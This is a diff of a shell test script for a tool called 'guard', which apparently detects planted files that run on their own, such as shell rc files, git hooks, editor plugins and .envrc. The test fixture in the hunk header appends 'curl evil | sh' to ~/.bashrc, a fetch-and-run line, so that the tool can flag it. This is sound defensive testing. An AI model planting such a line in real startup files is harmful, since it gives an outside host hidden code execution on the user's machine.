@@ -450,12 +450,16 @@ echo 'curl evil | sh' >>~/.bashrc
 END
 gives 0 'a run plants eleven files' guard run -- sh "$HOME/plant"
 grep -A 2 'act without being asked' "$err" >"$T/summary"
-is "$(cat "$T/summary")" ' !! 11 changes act without being asked: ~/.bashrc,
-    ~/.config/opencode/plugin/p.js, .git/config, .git/hooks/pre-commit,
-    .claude/settings.local.json, .envrc, and 5 more' 'six of them are named'
+is "$(cat "$T/summary")" ' !! 11 changes act without being asked: .git/config, .git/hooks/pre-commit,
+    ~/.bashrc, ~/.config/opencode/plugin/p.js, .claude/settings.local.json,
+    .envrc, and 5 more' 'six of them are named'
 ok 'a line fits a terminal' sh -c '! grep -E "^.{81}" "$1"' - "$T/summary"
 gives 0 'JSON has the same text' guard diff --json
 # shellcheck disable=SC2088 # the text has it
-says "$out" '~/.bashrc, ~/.config/opencode/plugin/p.js, .git/config, '
+says "$out" '.git/config, .git/hooks/pre-commit, ~/.bashrc, '
+guard discard -q -y
+gives 0 'three hundred files of one kind' guard run -- sh -c \
+	'for i in $(seq 300); do mkdir d$i; echo A=b >d$i/.envrc; done'
+says "$err" '300 changes act without being asked: d1/.envrc, and 299 more'
 
 finish
